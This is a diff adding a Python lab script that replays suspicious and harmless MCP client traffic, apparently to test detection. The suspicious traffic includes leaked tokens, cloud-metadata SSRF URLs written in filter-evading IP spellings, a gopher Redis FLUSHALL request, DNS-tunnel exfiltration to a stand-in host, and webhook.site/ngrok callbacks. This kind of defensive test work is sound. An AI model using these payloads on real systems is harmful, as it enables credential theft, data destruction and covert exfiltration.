@@ -1,0 +1,206 @@
+"""What clients on PyPI `mcp` 1.x send, how much of it and where to: `--play NAME`."""
+
+from __future__ import annotations
+
+import base64
+import random
+import socket
+import string
+from contextlib import asynccontextmanager
+
+import anyio
+from session_mcp1 import arguments, finish, open_session, recording_client
+
+from lab.wire import Recorder
+
+
+@asynccontextmanager
+async def at_work(options, **callbacks):
+    """A session in which the tools are known."""
+    recorder = Recorder(options.label)
+    async with open_session(recorder, options, **callbacks) as session:
+        await session.list_tools()
+        yield session, [recorder]
+
+
+async def call_all(options, calls: list[tuple[str, dict]]) -> list[Recorder]:
+    async with at_work(options) as (session, recorders):
+        for name, values in calls:
+            await session.call_tool(name, values)
+    return recorders
+
+
+def issued(seed: int, prefix: str, alphabet: str, length: int) -> str:
+    """A token in the form of an issuer, invented here so that no file has one in it."""
+    source = random.Random(seed)
+    return prefix + "".join(source.choice(alphabet) for _ in range(length))
+
+
+async def tells_secrets(options) -> list[Recorder]:
+    """Puts keys into a ticket, as somebody who asks for help in a hurry."""
+    forge = issued(5, "ghp" + "_", string.ascii_letters + string.digits, 36)
+    cloud = issued(6, "AK" + "IA", string.ascii_uppercase + "234567", 16)
+    text = f"Deploy fails. My settings:\nFORGE_TOKEN={forge}\nCLOUD_KEY={cloud}\n"
+    return await call_all(options, [("open_ticket", {"title": "deploy", "text": text})])
+
+
+async def tells_examples(options) -> list[Recorder]:
+    """Asks about settings with the keys of the documentation, and with hashes and numbers that are no secrets."""
+    text = (
+        "Deploy fails. Settings as documented:\nFORGE_TOKEN=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n"
+        "CLOUD_KEY=AKIAIOSFODNN7EXAMPLE\nCLOUD_SECRET=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n"
+        "image sha256:2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae, commit "
+        "e83c5163316f89bfbde7d9ab23ca2e25604af290, run 0b9ee4a6-2f6c-4c4b-8a59-6b6a0f3cbd2e, "
+        "integrity sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==, "
+        "sk-learn-contrib-imbalanced, hf_hub_download, npm_config_registry, AIzawa\n"
+    )
+    return await call_all(options, [("open_ticket", {"title": "deploy", "text": text})])
+
+
+async def reads_settings(options) -> list[Recorder]:
+    return await call_all(options, [("read_file", {"path": "README.md"}), ("read_file", {"path": ".env"})])
+
+
+async def reads_manual(options) -> list[Recorder]:
+    return await call_all(options, [("read_file", {"path": "README.md"}), ("read_file", {"path": "docs/settings.md"})])
+
+
+async def takes_all(options) -> list[Recorder]:
+    """A few customers at a time, then all of them."""
+    letters = (string.ascii_uppercase * 2)[:34]
+    return await call_all(options, [("find_customers", {"letter": letter}) for letter in [*letters, ""]])
+
+
+async def takes_logs(options) -> list[Recorder]:
+    """Logs of a day or of weeks, as the work wants it; the last is the longest."""
+    source = random.Random(3)
+    days = [max(1, min(50, round(source.lognormvariate(1.6, 1.2)))) for _ in range(34)]
+    return await call_all(options, [("export_log", {"days": number}) for number in [*days, 60]])
+
+
+def prose(seed: int, characters: int) -> str:
+    source, words = random.Random(seed), "the quay was calm and boats came in with mackerel before noon while rain held off".split()
+    text = ""
+    while len(text) < characters:
+        text += source.choice(words) + " "
+    return text[:characters]
+
+
+async def fills_ticket(options) -> list[Recorder]:
+    """Tickets of some lines, then one that holds a file."""
+    tickets = [("open_ticket", {"title": "berth", "text": prose(n, 200 + n * 7)}) for n in range(34)]
+    return await call_all(options, [*tickets, ("open_ticket", {"title": "berth", "text": prose(99, 40_000)})])
+
+
+async def saves_documents(options) -> list[Recorder]:
+    """Documents of all lengths, and the last is the longest."""
+    source = random.Random(4)
+    sizes = [max(100, min(30_000, round(source.lognormvariate(7.4, 1.4)))) for _ in range(34)]
+    calls = [("save_document", {"name": f"log {n}", "text": prose(n, size)}) for n, size in enumerate([*sizes, 40_000])]
+    return await call_all(options, calls)
+
+
+async def fetches_inside(options) -> list[Recorder]:
+    """Has pages fetched that only the server's own network can reach, in the spellings that filters overlook."""
+    path = "latest/meta-data/iam/security-credentials/"
+    hosts = ["169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "[::ffff:169.254.169.254]"]
+    addresses = [f"http://{host}/{path}" for host in hosts]
+    addresses += ["http://10.0.0.5:9200/_cat/indices", "http://0x7f.1:6379/", "gopher://127.0.0.1:6379/_FLUSHALL"]
+    return await call_all(options, [("fetch_page", {"url": address}) for address in addresses])
+
+
+async def fetches_outside(options) -> list[Recorder]:
+    """Pages of hosts whose names begin with numbers or hold words of the trade, and a question about an address."""
+    addresses = [
+        "https://2852039166.example/latest/meta-data/",
+        "https://10.example/0/0/5",
+        "https://0x7f.example/",
+        "https://metadata.example/169.254.169.254/latest",
+        "https://docs.example/metadata.google.internal",
+        "http://198.51.100.7/latest/meta-data/",
+        "https://workshop.example/go?to=/10.0.0.5",
+        "https://docs.example/rfc/rfc4266#gopher",
+    ]
+    calls = [("fetch_page", {"url": address}) for address in addresses]
+    text = "Is it right that 169.254.169.254 does not answer, and which of 10.0.0.5 and 10.0.0.6 is the index?"
+    return await call_all(options, [*calls, ("open_ticket", {"title": "addresses", "text": text})])
+
+
+async def follows(options) -> list[Recorder]:
+    """By hand: comes to where the server was, and follows what it says if that is the server's."""
+    recorder = Recorder(options.label)
+    headers = {"accept": "application/json, text/event-stream"}
+    hello = {
+        "protocolVersion": "2025-11-25",
+        "capabilities": {},
+        "clientInfo": {"name": "chart-table", "version": "3.2.0"},
+    }
+    body = {"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": hello}
+    async with recording_client(recorder, options) as http:
+        old = options.url.replace("/mcp", "/old/mcp")
+        reply = await http.post(old, headers=headers, json=body)
+        if reply.headers["location"].startswith("/"):
+            await http.post(options.url, headers=headers, json=body)
+    return [recorder]
+
+
+def look_up(name: str) -> None:
+    try:
+        socket.getaddrinfo(name, 443, socket.AF_INET)
+    except socket.gaierror:
+        pass
+
+
+async def look_up_all(options, names: list[str]) -> list[Recorder]:
+    """Beside a session: a call, names, and another call."""
+    async with at_work(options) as (session, recorders):
+        await session.call_tool("read_file", {"path": "README.md"})
+        for name in names:
+            await anyio.to_thread.run_sync(look_up, name)
+        await session.call_tool("read_file", {"path": "CHANGES.md"})
+    return recorders
+
+
+async def tunnels(options) -> list[Recorder]:
+    """A program of the client's machine that sends what it has stolen, enciphered, in the names of hosts."""
+    text = base64.b32encode(random.Random(8).randbytes(6_000)).decode().rstrip("=").lower()
+    pieces = [text[start : start + 116] for start in range(0, len(text), 116)]
+    names = [f"{piece[:58]}.{piece[58:]}.{number:x}.t.drop.example" for number, piece in enumerate(pieces)]
+    return await look_up_all(options, [name.replace("..", ".") for name in names])
+
+
+async def loads_pieces(options) -> list[Recorder]:
+    """A site that keeps its pictures on many hosts of a content network, named by what is in them."""
+    source = random.Random(9)
+    return await look_up_all(options, [f"{source.getrandbits(96):024x}.img.cdn.example" for _ in range(90)])
+
+
+async def drops(options) -> list[Recorder]:
+    """Has events told to a catcher of requests and to a tunnel, and looks up the host of a test of its own."""
+    token = "c0f4d6a2-91b7-4c3e-8d25-7a60b9e1f384"
+    async with at_work(options) as (session, recorders):
+        await session.call_tool("set_webhook", {"event": "saved", "url": f"https://webhook.site/{token}"})
+        await session.call_tool("set_webhook", {"event": "opened", "url": "https://quiet-gull.ngrok-free.app/in"})
+        await anyio.to_thread.run_sync(look_up, "cq2x7h3k0v.oast.fun")
+    return recorders
+
+
+async def registers(options) -> list[Recorder]:
+    """Has events told to hosts of its own whose names resemble those, and asks about one of them in words."""
+    hosts = ["webhook.site.example", "mywebhook.site.example", "hooks.example/webhook.site", "discord.com/channels/81/92"]
+    async with at_work(options) as (session, recorders):
+        for host in hosts:
+            await session.call_tool("set_webhook", {"event": "saved", "url": f"https://{host}"})
+        text = "May we use webhook.site or ngrok for tests, or is there something of our own?"
+        await session.call_tool("open_ticket", {"title": "hooks", "text": text})
+        for name in ("ngrok-free.app.cdn.example", "oast.cdn.example"):
+            await anyio.to_thread.run_sync(look_up, name)
+    return recorders
+
+
+async def main() -> None:
+    options = arguments()
+    finish(options, *await globals()[options.play](options))
+
+
+anyio.run(main)
